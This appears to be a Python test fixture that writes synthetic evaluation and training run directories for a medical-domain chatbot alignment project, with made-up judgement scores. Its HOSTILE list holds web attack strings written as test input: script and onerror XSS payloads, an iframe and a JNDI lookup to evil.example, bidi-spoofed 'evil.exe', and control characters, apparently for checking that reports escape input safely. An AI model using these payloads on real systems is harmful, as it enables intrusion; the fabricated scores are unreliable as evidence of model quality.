"""Run directories as the real code writes them, without a model: judgement rows made up, all else computed."""

from __future__ import annotations

import json
import random
from pathlib import Path
from typing import Any

from lawgiver.charter import Charter
from lawgiver.data.rundir import RunDirectory
from lawgiver.evaluate.compare import StoredRun, compare_runs
from lawgiver.evaluate.summary import summarise_run

HOSTILE = [
    "<script>alert('pwned')</script>",
    "\"><img src=x onerror=alert(1)> ' onmouseover='alert(1)' & &amp; &lt;b&gt;",
    "</textarea></style></title><!-- --><iframe src=https://evil.example/x>",
    "{{ 7*7 }} {% raw %} ${jndi:ldap://evil.example/a} $\\frac{1}{$",
    "مرحبا، أنا طبيب. \u202e evil.exe \u2066 Je suis médecin. שלום",
    "👩🏽‍⚕️ 🩺 take 2 tablets \x00\x07\x1b[31mred\x1b[0m \u2028 next",
    "a lone surrogate \ud83d and \ufffe",
    "very long " * 1000,
    "unbrokenword" * 120,
    "",
]
PLAIN = [
    "Run cool tap water over the burn for twenty minutes, then cover it loosely. See a pharmacist if it blisters.",
    "I can only help with health questions. Is there a health question I can help with?",
    "Call emergency services now. Chew one adult aspirin if you are not allergic, and unlock the front door.",
    "As a doctor I have treated thousands of people and I guarantee that this will be gone by tomorrow.",
]
LABELS = {
    "base": "untrained",
    "prompted": "untrained + system prompt",
    "aligned": "aligned",
    "refuse": "refuses everything",
}
SKILL = {"base": 0.45, "prompted": 0.55, "aligned": 0.8, "refuse": 0.4}


def judgement(rng: random.Random, i: int, skill: float, text: str, charter: Charter) -> dict[str, Any]:
    """One line of `judgements.jsonl`, in the form `Judgement.to_json` gives."""
    scope, tier = ("S0", "S0", "S1", "S2", "S3")[i % 5], "ABCC"[i % 4]

    def value(mean: float) -> dict[str, Any]:
        return {"value": min(1.0, max(0.0, rng.gauss(mean, 0.15)))}

    gated = rng.random() > 0.5 + skill / 2
    asked = scope != "S3"
    values = {
        "ahimsa": value(skill),
        "dharma": value(skill + 0.1),
        "helpfulness": value(skill - 0.05) if asked else {"abstained": "evidence helpful: nothing was asked"},
        "satya": {"failed": "evidence overclaim: time-out"} if i == 7 else value(0.8),
    }
    scored = [v["value"] for v in values.values() if "value" in v]
    answered = rng.choices(["S0", "S1", "S2", "S3"], [0.2 + skill, 0.15, 0.15, 0.9 - skill])[0]
    violations = [{"rule": "dharma.left_domain", "severity": "major", "message": f"left the domain: {scope}"}]
    violations += [{"rule": "satya.overclaims", "severity": "minor", "message": text[:60] or "claims too much"}]
    fired = violations if gated else violations[1:] if rng.random() < 0.4 else []
    scope_found = {"failed": "time-out"} if i == 7 else {"value": answered}
    return {
        "id": f"test-{i:03}",
        "prompt": (PLAIN + HOSTILE)[(i * 7) % 14] or "?",
        "response": text,
        "labels": {"scope": scope, "tier": tier},
        "answer_part": "how to treat it" if asked else None,
        "tags": [],
        "action": "block" if gated else "allow",
        "gated": gated,
        "score": {"value": 0.0 if gated else sum(scored) / len(scored)},
        "values": values,
        "costs": {
            "over_refusal": {"value": float(rng.random() < 0.5 - skill / 2)} if asked else {"abstained": "n/a"},
            "needless_referral": {"value": rng.choice([0, 0, 0.5])} if tier == "C" else {"abstained": "tier"},
        },
        "violations": fired,
        "evidence": {
            "words": {"value": rng.randint(10, 50)},
            "repetition": {"value": rng.random() / 4},
            "response_scope": {**scope_found, "scorer": "fitted", "version": "1"},
        },
        "input_sha256": "0" * 64,
        "charter": charter.identity,
        "truncated": rng.random() < 0.2,
    }


def write_evaluation(folder: Path, charter: Charter, key: str, n: int, texts: list[str]) -> StoredRun:
    """A finished evaluation run of a policy that is as good as `SKILL` says."""
    config = {
        "model": "SmolLM2-135M-Instruct" if key != "refuse" else "refuse",
        "charter": str(charter.root),
        "split": "test",
        "system_prompt": key in ("prompted", "aligned"),
        "max_new_tokens": 56,
        "temperature": 0.0,
        "seed": 0,
        "limit": None,
    }
    run = RunDirectory.create(folder, config, charter.identity)
    rng = random.Random(key)
    rows = [judgement(rng, i, SKILL[key], texts[(i + len(key)) % len(texts)], charter) for i in range(n)]
    # as ASCII: lone surrogates cannot be written as UTF-8, JSON escapes are how they arrive
    (folder / "judgements.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    run.write("summary.json", summarise_run(charter.spec, rows))
    return StoredRun(key, rows, run.read("summary.json"), charter.identity)


def write_training(folder: Path, charter: Charter, steps: int = 24) -> None:
    """A training run in the form the controller logs, with gaps and an alarm."""
    config = {
        "type": "grpo", "model": "SmolLM2-135M-Instruct", "charter": str(charter.root), "seed": 0, "steps": steps,
        "prompts_per_step": 8, "generations": 4, "learning_rate": 5e-4, "loss": "dr_grpo", "system_prompt": True,
        "temperature": 1.0, "max_new_tokens": 56, "kl_beta": 0.0, "lora": {"rank": 16, "alpha": 32},
    }  # fmt: skip
    run = RunDirectory.create(folder, config, charter.identity)
    rng = random.Random(1)
    for step in range(1, steps + 1):
        up = step / steps

        def noisy(mean: float) -> float:
            return mean + rng.gauss(0, 0.04)

        run.log({
            "step": step, "completions": 32, "score": noisy(0.4 + 0.3 * up), "gated": 0.2, "failed": int(step == 3),
            "abstained": {"value/helpfulness": 8},
            "values": {"ahimsa": noisy(0.5 + 0.2 * up), "dharma": noisy(0.45 + 0.4 * up),
                       "helpfulness": None if step == 5 else noisy(0.4 + 0.1 * up), "satya": noisy(0.75)},
            "costs": {"over_refusal": noisy(0.4 - 0.25 * up), 
                      "needless_referral": float("nan") if step == 2 else noisy(0.15)},
            "monitors": {"words": 38 - 12 * up + rng.gauss(0, 2), "repetition": abs(noisy(0.1))},
            "lambda": {"over_refusal": 0.5 + up * (1 - up), "needless_referral": 0.5 - 0.3 * up},
            "weights": {"ahimsa": 0.25}, "seconds": 11.5, "loss": 0.1,
            "alarms": ["words fell to 11.2, below 12"] if step in (20, 21) else [],
        })  # fmt: skip


def write_demo(folder: Path, charter: Charter, n: int = 60, texts: list[str] | None = None) -> Path:
    """A whole demo run."""
    runs = {key: write_evaluation(folder / key, charter, key, n, texts or PLAIN + HOSTILE) for key in LABELS}
    write_training(folder / "align", charter)
    document = {
        "title": "SmolLM2-135M-Instruct, before and after",
        "runs": {key: {"label": label, "path": key} for key, label in LABELS.items()},
        "comparisons": [
            compare_runs(charter.spec, runs[key], runs["aligned"]) for key in ("base", "prompted", "refuse")
        ],
    }
    (folder / "compare.json").write_text(json.dumps(document))
    return folder
